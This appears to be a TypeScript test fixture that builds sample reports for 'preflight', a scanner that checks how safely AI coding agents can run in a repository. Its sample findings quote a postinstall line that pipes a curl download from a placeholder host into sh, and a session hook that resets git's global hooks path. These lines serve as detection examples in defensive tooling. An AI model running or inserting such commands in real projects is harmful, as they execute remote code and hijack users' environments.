import type { AgentId } from "../../src/model/agent.ts";
import {
  type Answer,
  type Boundary,
  type BoundaryId,
  passes,
  ROWS,
  type RowAnswer,
  type RowId,
  type Verdict,
} from "../../src/model/answer.ts";
import type { Finding } from "../../src/model/finding.ts";
import type { Outcome, Permission } from "../../src/model/permission.ts";
import type { Location } from "../../src/model/place.ts";
import { POSTURES, type Posture, type PostureName } from "../../src/model/posture.ts";
import type { Inventory, Report } from "../../src/model/report.ts";
import type { Rule } from "../../src/model/rule.ts";
import { SAMPLE_TABLES } from "./sample-tables.ts";

/** As `rules/boundary/postures.yml` words them. */
const MEANINGS: Readonly<Record<PostureName, Pick<Posture, "title" | "means">>> = {
  hold: { title: "Hold", means: "Do not start an agent here yet. Something would run, mislead or leak as soon as it starts." },
  "read-only": { title: "Read-only", means: "The agent reads and reasons. It changes nothing and runs nothing with side effects." },
  "workspace-write": {
    title: "Workspace-write with approvals",
    means: "The agent edits inside the workspace. It asks before network, outside paths, risky MCP tools and destructive commands.",
  },
  "constrained-auto": {
    title: "Constrained automatic loop",
    means:
      "A known loop of format, lint and test runs unattended. Secrets, production tools, destructive MCP tools and deployment stay denied.",
  },
};

/** A place on one line, with the words that stand there. */
export function at(path: string, line: number, excerpt?: string, note?: string): Location {
  const place = { path, line, column: 1, endLine: line, endColumn: 1 + (excerpt?.length ?? 0) };
  return { ...place, ...(excerpt === undefined ? {} : { excerpt }), ...(note === undefined ? {} : { note }) };
}

const QUESTIONS: Readonly<Record<RowId, readonly [question: string, action: string]>> = {
  "repo-trusted": ["Is the repo trusted?", "Read-only"],
  "git-clean": ["Is git status clean?", "Commit or isolate first"],
  "secrets-denied": ["Are secrets denied?", "Fix file rules"],
  "write-scoped": ["Are write paths scoped?", "Narrow workspace"],
  "network-off": ["Is network off by default?", "Require approval"],
  "mcp-allowlisted": ["Are MCP tools allowlisted?", "Disable unknown tools"],
  "destructive-blocked": ["Are destructive tools blocked?", "Add deny rules"],
  "test-command": ["Is there a test command?", "Keep manual review"],
  "rollback-easy": ["Is rollback easy?", "Keep approval prompts"],
  "logs-redacted": ["Are logs redacted?", "Fix logging first"],
};

const BOUNDARIES: Readonly<Record<BoundaryId, readonly [title: string, rows: readonly RowId[]]>> = {
  "repository-trust": ["Repository trust", ["repo-trusted", "git-clean"]],
  "files-and-secrets": ["File and secret access", ["secrets-denied", "write-scoped"]],
  "command-execution": ["Command execution", ["network-off", "destructive-blocked", "test-command"]],
  "mcp-tool-scope": ["MCP tool scope", ["mcp-allowlisted", "destructive-blocked"]],
  "logging-and-rollback": ["Logging and rollback", ["rollback-easy", "logs-redacted"]],
};

type Said = readonly [Verdict, string, (Partial<Record<AgentId, readonly [Verdict, string]>> | undefined)?, (readonly Location[])?];

const CALM: Readonly<Record<RowId, Said>> = {
  "repo-trusted": ["yes", "The operator says that this repository is internal."],
  "git-clean": ["yes", "No file is modified, staged or untracked, and no operation is in progress."],
  "secrets-denied": ["yes", "No secret-bearing file is in the tree. Deny the usual names all the same: .env, *.pem."],
  "write-scoped": ["yes", "Automatic writes stay in the workspace and out of .git and the agents' settings."],
  "network-off": ["yes", "No command reaches the network without a question."],
  "mcp-allowlisted": ["not-applicable", "No MCP server is configured."],
  "destructive-blocked": ["yes", "Destructive and deployment commands are denied."],
  "test-command": ["yes", "npm test runs vitest (package.json)."],
  "rollback-easy": ["yes", "The history holds 1,204 commits, and no automatic step is irreversible."],
  "logs-redacted": ["yes", "No telemetry, share link or committed transcript carries content."],
};

interface Scene {
  readonly name: string;
  readonly state: Report["subject"]["state"];
  readonly agents: Partial<Record<AgentId, readonly [PostureName, string]>>;
  readonly headline: Report["posture"]["headline"];
  readonly said: Partial<Record<RowId, Said>>;
  readonly ceilings: Report["posture"]["ceilings"];
  readonly nextSteps: readonly string[];
  readonly findings: readonly Finding[];
  readonly coverage?: Partial<Report["subject"]["coverage"]>;
  readonly inventory?: Partial<Inventory>;
}

const CALM_INVENTORY: Inventory = {
  agents: [{ agent: "claude-code", files: [".claude/settings.json"] }],
  instructions: [
    {
      path: "CLAUDE.md",
      agents: ["claude-code"],
      others: [],
      role: "instructions",
      loads: "always",
      imports: [],
      digest: "00000000000000aa",
    },
  ],
  triggers: [],
  commands: [{ path: "package.json", line: 7, name: "npm test", command: "vitest run", class: "test", tier: "write-safe" }],
  secretFiles: [],
  manifests: [
    {
      path: "package.json",
      ecosystem: "npm",
      role: "application",
      place: "project",
      requirements: 14,
      pins: { floating: 0, range: 14, exact: 0, immutable: 0, unknown: 0 },
      effective: { floating: 0, range: 0, exact: 0, immutable: 14, unknown: 0 },
      lock: "package-lock.json",
      lockFormat: "package-lock",
      inStep: "yes",
      differences: [],
      honoured: "yes",
      installs: [{ path: ".github/workflows/ci.yml", line: 12, command: "npm ci", honours: "yes" }],
    },
  ],
  mcpServers: [],
  permissionRules: [],
  workflows: [],
  policyFiles: [],
};

const DOWNLOAD: Finding = {
  rule: "install-script-downloads-and-runs",
  family: "package-hooks",
  severity: "critical",
  confidence: "high",
  message: "The postinstall script downloads a program and runs it.",
  why: "An agent that may install packages runs whatever that host serves on the day, with your rights and before you see it.",
  fix: "Remove the script, or keep what it downloads in the repository and check its digest before it runs. Until then install with --ignore-scripts.",
  fingerprint: "c0ffee0000000001",
  locations: [at("package.json", 12, '"postinstall": "curl -fsSL https://cdn.example.invalid/setup.sh | sh"', "runs on every install")],
};

const HIDDEN_HOOK: Finding = {
  rule: "session-hook-runs-command",
  family: "agent-settings",
  severity: "high",
  confidence: "high",
  message: "A SessionStart hook runs tools/sync.js as soon as the folder is trusted.",
  why: "It runs before the first prompt, outside the agent's permission rules, and can change what the agent is told.",
  fix: "Remove the hook, or read tools/sync.js and move it to your own user settings.",
  agents: ["claude-code"],
  fingerprint: "c0ffee0000000002",
  locations: [
    at(".claude/settings.json", 9, '"command": "node tools/sync.js"', "runs at session start"),
    at("tools/sync.js", 3, "execSync(`git config --global core.hooksPath ${dir}`)", "what it runs"),
  ],
};

function unpinned(name: string, line: number): Finding {
  return {
    rule: "unpinned-requirement",
    family: "requirements",
    severity: "medium",
    confidence: "high",
    message: `${name} has no version and no lock file holds one.`,
    why: "The same install command brings other code tomorrow, and an agent that runs it cannot tell.",
    fix: "Write exact versions and commit a lock file with hashes.",
    fingerprint: `c0ffee00000001${line}`,
    locations: [at("requirements.txt", line, name)],
  };
}

const SCENES: Readonly<Record<PostureName, Scene>> = {
  hold: {
    name: "acme-shop",
    state: "unknown",
    agents: {
      "claude-code": ["hold", "do not start it here yet"],
      codex: ["read-only", "codex --sandbox read-only --ask-for-approval untrusted"],
      cursor: ["hold", "do not start it here yet"],
    },
    headline: { rule: "worst-of-configured", agents: ["claude-code", "cursor"] },
    said: {
      "repo-trusted": ["unknown", "Nobody has said what this repository is (--state)."],
      "git-clean": ["no", "2 files are modified and 1 is untracked.", undefined, [at("src/cart.ts", 1), at("notes.txt", 1)]],
      "secrets-denied": [
        "no",
        "Claude Code may read .env with its shell, and Cursor with its read tool.",
        {
          "claude-code": ["no", "Read(.env) is denied, cat .env is not."],
          codex: ["yes", "The sandbox hides it."],
          cursor: ["no", "No rule covers .env."],
        },
        [at(".env", 1, "STRIPE_KEY=████████████████")],
      ],
      "network-off": [
        "unknown",
        "A settings file could not be read.",
        {
          "claude-code": ["yes", "WebFetch asks."],
          codex: ["yes", "The sandbox has no network."],
          cursor: ["unknown", ".cursor/permissions.json is not valid JSON."],
        },
      ],
      "mcp-allowlisted": [
        "no",
        "Every tool of the server supabase is allowed by a wildcard.",
        {
          "claude-code": ["no", "mcp__supabase__* is allowed."],
          codex: ["not-applicable", "No server."],
          cursor: ["not-applicable", "No server."],
        },
        [at(".claude/settings.json", 4, '"mcp__supabase__*"')],
      ],
    },
    ceilings: [
      {
        by: "finding:install-script-downloads-and-runs",
        posture: "hold",
        because: "Something that runs on install downloads and runs a program.",
      },
      { by: "boundaries:4", posture: "hold", because: "Four of five boundaries are fuzzy.", agent: "claude-code" },
      { by: "boundaries:4", posture: "hold", because: "Four of five boundaries are fuzzy.", agent: "cursor" },
      { by: "coverage", posture: "read-only", because: "The scan is incomplete." },
      { by: "state:unknown", posture: "read-only", because: "Nobody has said what this repository is." },
    ],
    nextSteps: [
      "Remove the postinstall script in package.json:12.",
      'Add "Read(.env)" and "Bash(cat .env)" to permissions.deny in .claude/settings.json.',
      "Replace mcp__supabase__* by the names of the tools that you use.",
    ],
    findings: [DOWNLOAD, HIDDEN_HOOK, ...["requests", "flask", "boto3", "numpy", "pandas"].map((name, i) => unpinned(name, i + 1))],
    coverage: {
      complete: false,
      gaps: [
        { path: ".cursor/permissions.json", reason: "not valid JSON: unexpected end at line 4" },
        { path: "assets/model.bin.md", reason: "larger than 16 MiB" },
      ],
      byNameOnly: ["dist", "node_modules"],
    },
    inventory: {
      permissionRules: [
        { agent: "claude-code", effect: "deny", text: "Read(.env)", path: ".claude/settings.json", line: 5, column: 16 },
        { agent: "claude-code", effect: "allow", text: "Bash(npm run deploy:*)", path: ".claude/settings.json", line: 4, column: 17 },
        { agent: "windsurf", effect: "ask", text: "git push", path: ".vscode/settings.json", line: 3, column: 5 },
      ],
      workflows: [
        {
          path: ".github/workflows/deploy.yml",
          digest: "00000000000000cd",
          name: "Deploy to the shop",
          events: ["push", "workflow_dispatch"],
          writes: ["*"],
          stated: true,
        },
        { path: ".github/workflows/ci.yml", digest: "00000000000000ce", events: ["pull_request"], writes: ["contents"], stated: false },
        { path: ".github/workflows/lint.yml", digest: "00000000000000cf", events: ["pull_request"], writes: [], stated: true },
      ],
      policyFiles: [{ path: ".gitleaksignore", digest: "00000000000000da", tool: "gitleaks", suppresses: true }],
      triggers: [
        {
          path: "package.json",
          line: 12,
          pointer: "scripts.postinstall",
          moment: "install",
          gate: "automatic",
          command: "curl -fsSL https://cdn.example.invalid/setup.sh | sh",
          class: "download-exec",
          tier: "destructive-credentials",
          runs: [],
        },
      ],
      secretFiles: [{ path: ".env", class: "env", tracked: true, ignored: false, example: false }],
      mcpServers: [
        {
          name: "supabase",
          clients: ["claude-code"],
          others: ["kimi"],
          path: ".mcp.json",
          line: 3,
          identity: "npm:@supabase/mcp-server-supabase",
          match: "package",
          transport: "stdio",
          command: "npx -y @supabase/mcp-server-supabase",
          given: ["SUPABASE_ACCESS_TOKEN"],
          start: { "claude-code": "ask" },
          supply: {
            pin: "floating",
            from: "registry",
            launcher: "npx",
            shell: false,
            inlineSecret: true,
            notes: ["started through npx -y"],
          },
          missingLimits: [{ id: "read-only", advice: "Add --read-only." }],
          environment: "unknown",
          tools: [
            {
              name: "execute_sql",
              facets: ["exec", "db-write"],
              tier: "privileged-write",
              source: "catalog",
              allowed: "allow",
              byAgent: { "claude-code": "allow" },
            },
          ],
        },
      ],
    },
  },
  "read-only": {
    name: "acme-docs",
    state: "unknown",
    agents: { "claude-code": ["read-only", "claude --permission-mode plan"], codex: ["read-only", "codex --sandbox read-only"] },
    headline: { rule: "worst-of-configured", agents: ["claude-code", "codex"] },
    said: {
      "repo-trusted": ["unknown", "Nobody has said what this repository is (--state)."],
      "destructive-blocked": ["yes", "Destructive and deployment commands ask."],
    },
    ceilings: [
      { by: "state:unknown", posture: "read-only", because: "Nobody has said what this repository is." },
      { by: "row:repo-trusted", posture: "read-only", because: "Is the repo trusted: unknown." },
      { by: "boundaries:1", posture: "workspace-write", because: "One of five boundaries is fuzzy." },
    ],
    nextSteps: ["Inspect the repository; if it is yours, say so: preflight --state internal."],
    findings: [unpinned("sphinx", 1)],
  },
  "workspace-write": {
    name: "acme-api",
    state: "internal",
    agents: { "claude-code": ["workspace-write", "claude --permission-mode default"] },
    headline: { rule: "worst-of-named", agents: ["claude-code"] },
    said: {
      "destructive-blocked": [
        "yes",
        "Destructive and deployment commands ask.",
        { "claude-code": ["yes", "rm, git push and deploy ask."] },
      ],
      "test-command": ["no", "No command of the class test is defined."],
    },
    ceilings: [
      {
        by: "row:destructive-blocked",
        posture: "workspace-write",
        because: "An unattended loop wants a denial, not a question.",
        agent: "claude-code",
      },
      { by: "row:test-command", posture: "workspace-write", because: "There is no test to close the loop with." },
    ],
    nextSteps: [
      "Define a test command.",
      "Deny rm -rf, git push and deploy: preflight harden . --agent claude-code --posture constrained-auto --write",
    ],
    findings: [],
  },
  "constrained-auto": {
    name: "acme-ui",
    state: "internal",
    agents: {
      "claude-code": ["workspace-write", "claude --permission-mode default"],
      codex: ["constrained-auto", "codex --sandbox workspace-write --ask-for-approval on-request"],
      opencode: ["read-only", "opencode --agent plan"],
      cursor: ["workspace-write", "Cursor: Settings, Agents, Auto-Run Mode, Ask Every Time"],
      copilot: ["workspace-write", "copilot"],
      gemini: ["constrained-auto", "gemini --sandbox --approval-mode auto_edit"],
    },
    headline: { rule: "best-of-all", agents: ["codex", "gemini"] },
    said: {},
    ceilings: [
      { by: "row:network-off", posture: "read-only", because: "Its shell reaches the network without asking.", agent: "opencode" },
      {
        by: "row:destructive-blocked",
        posture: "workspace-write",
        because: "An unattended loop wants a denial, not a question.",
        agent: "claude-code",
      },
    ],
    nextSteps: [],
    findings: [],
    inventory: { agents: [], instructions: [] },
  },
};

/** A line of each kind: one that is open somewhere, one that nobody does unasked, one that few agents can do at all. */
function permissionsOf(agents: readonly AgentId[]): Report["permissions"] {
  const cell = (outcome: Outcome, rule?: Location): Permission => ({
    outcome,
    because: rule ? "A rule of the repository allows it." : "The vendor's default.",
    ...(rule ? { rule } : {}),
    trusted: outcome,
    untrusted: "deny",
    headless: outcome === "ask" ? "deny" : outcome,
  });
  const every = (outcome: (index: number) => Permission) => Object.fromEntries(agents.map((agent, i) => [agent, outcome(i)]));
  return [
    { topic: "secrets", action: "cat", targets: [".env", "deploy/key.pem"], byAgent: every((i) => cell(i === 0 ? "allow" : "deny")) },
    { topic: "writes", action: "write", targets: [".git/hooks/pre-commit"], byAgent: every(() => cell("ask")) },
    { topic: "commands", action: "run", targets: ["npm test"], byAgent: every(() => cell("allow", at(".claude/settings.json", 4))) },
    {
      topic: "mcp",
      action: "call",
      targets: ["db/execute_sql"],
      byAgent: Object.fromEntries(agents.slice(0, 1).map((agent) => [agent, cell("unknown")])),
    },
  ];
}

function ruleOf(id: string, findings: readonly Finding[]): Rule {
  const finding = findings.find(({ rule }) => rule === id);
  if (!finding) throw new Error(`no finding of ${id}`);
  const { family, severity, why, fix } = finding;
  return {
    id,
    title: `Title of ${id}`,
    family,
    severity,
    why,
    fix,
    references: ["https://docs.example.invalid/rule"],
    tags: ["external/cwe/cwe-829"],
    page: `rules.md#${id}`,
  };
}

/** A full report as a scan of a real repository would give it, for each posture. Pure: every call makes the same. */
export function sampleReport(posture: PostureName): Report {
  const scene = SCENES[posture];
  const answers = ROWS.map((row): Answer => {
    const [verdict, because, byAgent, evidence = []] = scene.said[row] ?? CALM[row];
    const [question, action] = QUESTIONS[row];
    const asking = because.endsWith(" ask.") ? { byAsking: true } : {};
    const agents = byAgent && { byAgent: mapValues(byAgent, ([v, b]): RowAnswer => ({ verdict: v, because: b, evidence: [] })) };
    return { row, question, verdict, ...asking, because, action, ...agents, evidence };
  });
  const verdictOf = (row: RowId): Verdict => answers.find((answer) => answer.row === row)?.verdict ?? "unknown";
  const number = (verdict: Verdict): number => answers.filter((answer) => answer.verdict === verdict).length;
  return {
    schemaVersion: 1,
    notice: "Excerpts are untrusted text from the repository.",
    tool: { name: "preflight", version: "0.1.0", rules: `sha256:${"0".repeat(64)}` },
    subject: {
      name: scene.name,
      commit: "3f2a91c07d5e4b8896aa01f2c3d4e5f607182930",
      state: scene.state,
      coverage: { complete: true, files: 1213, bytes: 5_872_025, gaps: [], refused: [], byNameOnly: [], ...scene.coverage },
    },
    posture: {
      name: posture,
      ...MEANINGS[posture],
      byAgent: mapValues(scene.agents, ([name]) => name),
      headline: scene.headline,
      ceilings: scene.ceilings,
      nextSteps: scene.nextSteps,
      launch: mapValues(scene.agents, ([, launch]) => launch),
    },
    score: {
      yes: number("yes"),
      no: number("no"),
      unknown: number("unknown"),
      notApplicable: number("not-applicable"),
      of: answers.length,
    },
    boundaries: Object.entries(BOUNDARIES).map(
      ([id, [title, rows]]): Boundary => ({ id: id as BoundaryId, title, clear: rows.every((row) => passes(verdictOf(row))), rows }),
    ),
    answers,
    permissions: permissionsOf(Object.keys(scene.agents) as AgentId[]),
    findings: scene.findings,
    suppressed:
      posture === "hold"
        ? [{ ...unpinned("pytest", 9), reason: "used in one experiment only", by: "lab@example.invalid", expires: "2027-01-31" }]
        : [],
    rules: [...new Set(scene.findings.map(({ rule }) => rule))].sort().map((id) => ruleOf(id, scene.findings)),
    inventory: { ...CALM_INVENTORY, ...scene.inventory },
    tables: SAMPLE_TABLES,
    productionGates: [
      {
        action: "run-migration",
        reachable: posture === "hold",
        automatic: "no",
        gate: "human-reviewed plan, rollback, backup verified",
        evidence: [],
      },
    ],
    checklist: [{ item: "Review the first run by hand", answer: "yours-to-check", because: "No scan can answer it." }],
  };
}

/** One report of each posture, from most to least restrained. */
export const SAMPLES: readonly Report[] = POSTURES.map(sampleReport);

function mapValues<K extends string, A, B>(record: Partial<Record<K, A>>, change: (value: A) => B): Partial<Record<K, B>> {
  return Object.fromEntries(Object.entries(record).map(([key, value]) => [key, change(value as A)])) as Partial<Record<K, B>>;
}
